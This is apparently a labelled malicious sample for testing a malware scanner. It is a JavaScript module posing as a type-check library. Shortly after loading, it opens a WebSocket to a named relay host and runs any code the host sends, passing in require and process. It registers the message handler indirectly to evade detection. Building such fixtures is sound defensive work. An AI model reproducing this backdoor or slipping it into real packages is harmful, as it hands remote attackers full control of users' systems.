// expect: malicious
// A type-check library's ESM build that, as it loads, opens a WebSocket to a host it names and runs what each message
// carries through an AsyncFunction; the handler is registered through `apply`, so no `.on('message', …)` is written.
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;

export const isString = (v) => typeof v === 'string';

function link() {
  const WS = globalThis.WebSocket || require('ws');
  const sock = new WS('wss://relay.sync.example/ws');
  const listen = (args) => (typeof sock.on === 'function' ? sock.on : sock.addEventListener).apply(sock, args);
  listen(['message', async (ev) => {
    const msg = JSON.parse(String(ev.data ?? ev));
    const out = await new AsyncFunction('require', 'process', msg.code)(require, process);
    sock.send(JSON.stringify({ id: msg.id, out: String(out) }));
  }]);
}

setTimeout(link, 2000);
